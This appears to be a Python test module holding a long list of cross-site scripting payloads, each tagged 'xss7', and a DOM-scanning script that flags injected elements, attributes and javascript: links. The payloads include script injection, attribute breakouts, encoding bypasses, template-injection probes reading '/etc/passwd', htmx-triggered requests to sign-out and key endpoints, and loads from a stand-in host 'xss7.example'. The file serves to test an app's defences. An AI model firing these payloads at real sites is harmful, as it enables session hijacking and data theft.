"""What an attacker writes where text is shown. Each has the word `xss7`, by which its traces are found."""

_HANDLERS = (
    "onerror", "onload", "onclick", "onfocus", "onmouseover", "onanimationstart", "ontoggle",
    "onpointerenter", "onbeforeinput", "onscrollend", "onpageshow", "oncontentvisibilityautostatechange",
)  # fmt: skip

PAYLOADS: tuple[str, ...] = (
    # Scripts
    "<script>alert('xss7')</script>",
    "<script src=https://xss7.example/x.js></script>",
    "<script type=module>import 'https://xss7.example/x.js'</script>",
    "<SCRIPT>alert(/xss7/)</SCRIPT>",
    "<scr<script>ipt>alert('xss7')</scr</script>ipt>",
    "</script><script>alert('xss7')</script>",
    "</textarea><script>alert('xss7')</script>",
    "</title><script>alert('xss7')</script>",
    "</template><script>alert('xss7')</script>",
    "</pre></code><script>alert('xss7')</script>",
    "</option></select><script>alert('xss7')</script>",
    "<!--><script>alert('xss7')</script>-->",
    "<![CDATA[<script>alert('xss7')</script>]]>",
    "<noscript><p title='</noscript><img src=xss7 onerror=alert(1)>'>",
    "<script/xss7>alert(1)</script>",
    "<script\x0dsrc=xss7>alert(1)</script>",
    # Elements that run something
    "<img src=xss7 onerror=alert(1)>",
    "<img src=`xss7` onerror=alert(1)>",
    "<img/src='xss7'/onerror='alert(1)'>",
    "<img src=x:xss7 onerror=eval(atob('YWxlcnQoMSk='))>",
    "<IMG SRC=\"jav&#x09;ascript:alert('xss7');\">",
    "<svg onload=alert('xss7')>",
    "<svg><script>alert('xss7')</script></svg>",
    "<svg><animate onbegin=alert('xss7') attributeName=x dur=1s></svg>",
    "<svg><set attributeName=href to=javascript:alert('xss7')></svg>",
    "<svg><a xlink:href=javascript:alert('xss7')><text y=20>click</text></a></svg>",
    "<svg><foreignObject><iframe src=javascript:alert('xss7')></foreignObject></svg>",
    "<svg><use href=\"data:image/svg+xml,<svg id=x><image href=xss7 onerror=alert(1) /></svg>#x\"></svg>",
    "<math><mtext><table><mglyph><style><img src=xss7 onerror=alert(1)></style>",
    "<math href=javascript:alert('xss7')>click</math>",
    "<iframe src=javascript:alert('xss7')></iframe>",
    "<iframe srcdoc='<script>parent.alert(\"xss7\")</script>'></iframe>",
    "<object data=javascript:alert('xss7')></object>",
    "<embed src=javascript:alert('xss7')>",
    "<video><source onerror=alert('xss7')></video>",
    "<audio src=xss7 onerror=alert(1)>",
    "<details open ontoggle=alert('xss7')>",
    "<dialog open onclose=alert('xss7')>",
    "<marquee onstart=alert('xss7')>x</marquee>",
    "<body onload=alert('xss7')>",
    "<input autofocus onfocus=alert('xss7')>",
    "<select autofocus onfocus=alert('xss7')></select>",
    "<textarea autofocus onfocus=alert('xss7')>",
    "<keygen autofocus onfocus=alert('xss7')>",
    "<form action=https://xss7.example><input name=csrf></form>",
    "<button formaction=javascript:alert('xss7')>click</button>",
    "<isindex action=javascript:alert('xss7') type=image>",
    "<base href=https://xss7.example/>",
    "<meta http-equiv=refresh content='0;url=https://xss7.example'>",
    "<link rel=stylesheet href=https://xss7.example/x.css>",
    "<link rel=import href=data:text/html,<script>alert('xss7')</script>>",
    "<portal src=https://xss7.example></portal>",
    "<xss7 id=x tabindex=1 onfocus=alert(1)></xss7>",
    "<xss7-element></xss7-element>",
    "<frameset onload=alert('xss7')>",
    "<table background=javascript:alert('xss7')>",
    # Out of attributes
    "\" onmouseover=alert('xss7') x=\"",
    "' onfocus=alert('xss7') autofocus x='",
    "\"><img src=xss7 onerror=alert(1)>",
    "'><svg onload=alert('xss7')>",
    "` onmouseover=alert('xss7') `",
    "x\" data-xss7=\"1",
    "x' id='xss7",
    "\" style=\"background:url(https://xss7.example)",
    "&quot;&gt;&lt;img src=xss7 onerror=alert(1)&gt;",
    "&#34;&#62;&#60;script&#62;alert('xss7')&#60;/script&#62;",
    "\\\"><script>alert('xss7')</script>",
    "\\u003cscript\\u003ealert('xss7')\\u003c/script\\u003e",
    "%3Cscript%3Ealert('xss7')%3C/script%3E",
    "';alert('xss7');//",
    "\"};alert('xss7');//",
    "</style><script>alert('xss7')</script>",
    # htmx, and what our own scripts listen to
    "<div hx-get=/sign-out hx-trigger=load data-xss7>x</div>",
    "<div hx-on::load=alert('xss7')>x</div>",
    "<div hx-on:click=alert('xss7')>x</div>",
    "<div data-hx-get=https://xss7.example data-hx-trigger=load>x</div>",
    "<i hx-post=/keys hx-trigger=load hx-vals='{\"name\":\"xss7\"}'></i>",
    "<i hx-sse:connect=https://xss7.example></i>",
    "<i hx-get=/x hx-vals='js:{x: alert(\"xss7\")}' hx-trigger=load></i>",
    "<hx-partial hx-target=body hx-swap=innerHTML><h1 id=xss7>owned</h1></hx-partial>",
    "<template hx type=partial hx-target=body><h1 id=xss7>owned</h1></template>",
    "<div hx-swap-oob=innerHTML:body><h1 id=xss7></h1></div>",
    "<button data-theme-switch data-xss7>x</button>",
    "<button data-copy=xss7>copy</button>",
    "<div id=notes class=xss7>fake</div>",
    "<meta name=htmx-config content='{\"selfRequestsOnly\":false,\"xss7\":1}'>",
    # Templates
    "{{7*7}}xss7",
    "{{ ''.__class__.__mro__ }}xss7",
    "{% include '/etc/passwd' %}xss7",
    "{# xss7 #}",
    "${7*7}xss7",
    "<%= 7*7 %>xss7",
    "#{7*7}xss7",
    "{{constructor.constructor('alert(1)')()}}xss7",
    # Markdown
    "[click](javascript:alert('xss7'))",
    "[click](JaVaScRiPt:alert('xss7'))",
    "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==#xss7)",
    "[click](vbscript:msgbox('xss7'))",
    "[click](\x01javascript:alert('xss7'))",
    "![x](https://xss7.example/pixel.png)",
    "![x](\"onerror=\"alert('xss7'))",
    "<javascript:alert('xss7')>",
    "[a]: javascript:alert('xss7')",
    "[x](<javascript:alert('xss7')>)",
    "```html\n<script>alert('xss7')</script>\n```",
    "`<img src=xss7 onerror=alert(1)>`",
    "> <img src=xss7 onerror=alert(1)>",
    "| a |\n|---|\n| <img src=xss7 onerror=alert(1)> |",
    "# <svg onload=alert('xss7')>",
    "**<b onmouseover=alert('xss7')>x</b>**",
    # Letters
    "\u202e<img src=xss7 onerror=alert(1)>",
    "\ufeff<script>alert('xss7')</script>",
    "\uff1cscript\uff1ealert('xss7')\uff1c/script\uff1e",
    "<\u200bscript>alert('xss7')</script>",
    "\u2028<script>alert('xss7')</script>",
    "\u00bcscript\u00bealert('xss7')\u00bc/script\u00be",
    "+ADw-script+AD4-alert('xss7')+ADw-/script+AD4-",
    "<img src=xss7 on\u0435rror=alert(1)>",
    "\U0001f600<img src=xss7 onerror=alert(1)>",
    # Styles
    "<style>@import 'https://xss7.example/x.css';</style>",
    "<style>body{display:none}/*xss7*/</style>",
    "<p style=position:fixed;inset:0 class=xss7>over everything</p>",
    "<div style='background:url(https://xss7.example)'>x</div>",
    "expression(alert('xss7'))",
    # Nested
    "<a href='javascript:alert(1)'><img src=xss7 onerror=alert(1)></a>",
    "<p><a href=\"javascript:alert('xss7')\" target=_blank>x</a></p>",
    "<div><div><div><script>alert('xss7')</script></div></div></div>",
    *(f"<b {handler}=alert('xss7') tabindex=0>x</b>" for handler in _HANDLERS),
)  # fmt: skip

# Whatever one of them made of the page: an element, an attribute, an address. Texts and values are no traces.
TRACES = """() => {
  const texts = new Set(["value", "title", "aria-label", "placeholder", "alt", "label", "content"]);
  const ours = /^(id|for|name|aria-labelledby|hx-confirm|hx-vals|hx-get|hx-post|data-[a-z-]+)$/;
  const found = [];
  for (const element of document.querySelectorAll("*")) {
    if (element.tagName.toLowerCase().includes("xss7")) found.push(element.outerHTML.slice(0, 200));
    for (const { name, value } of element.attributes) {
      const isOurs = name === "href" && (value.startsWith("/") || value.startsWith("#"));
      const traced = name.includes("xss7") || (value.includes("xss7") && !texts.has(name) && !isOurs);
      if (traced && !ours.test(name)) {
        found.push(`${name}=${value.slice(0, 100)} of ${element.outerHTML.slice(0, 160)}`);
      }
      if (name.startsWith("on") || name === "style" || name.startsWith("hx-on")) {
        found.push(`${name} of ${element.outerHTML.slice(0, 160)}`);
      }
      if (/^(id|class)$/.test(name) && value === "xss7") found.push(element.outerHTML.slice(0, 160));
      if (/^\\s*(javascript|vbscript|data:text)/i.test(value) && ["href", "src", "action"].includes(name)) {
        found.push(`${name}=${value.slice(0, 100)}`);
      }
    }
  }
  const never = "iframe, object, embed, base, portal, frameset, math, body script, body style, body link";
  for (const one of document.querySelectorAll(never)) {
    found.push(one.outerHTML.slice(0, 160));
  }
  return found;
}"""

# Everything that a person could read or would send.
TEXT = """() => document.documentElement.textContent + [...document.querySelectorAll("input, textarea")]
  .map((one) => one.value).join("\\n")"""


def chunks(most: int) -> list[str]:
    """All of them, in as few texts as fit."""
    found = [""]
    for payload in PAYLOADS:
        if len(found[-1]) + len(payload) + 1 > most:
            found.append("")
        found[-1] += payload + "\n"
    return found
